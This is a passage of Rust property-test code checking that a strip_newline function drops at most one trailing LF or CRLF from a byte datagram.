        fn strip_newline_drops_at_most_one_lf_or_crlf(datagram in crate::send::lines::tests::stream()) {
            let stripped = strip_newline(&datagram);
            let dropped = &datagram[stripped.len()..];
            prop_assert!(datagram.starts_with(stripped));
            prop_assert!(matches!(dropped, b"" | b"\n" | b"\r\n"), "dropped {:?}", dropped);
            if dropped.is_empty() {
                prop_assert!(!datagram.ends_with(b"\n"));
            }
        }
    }
}
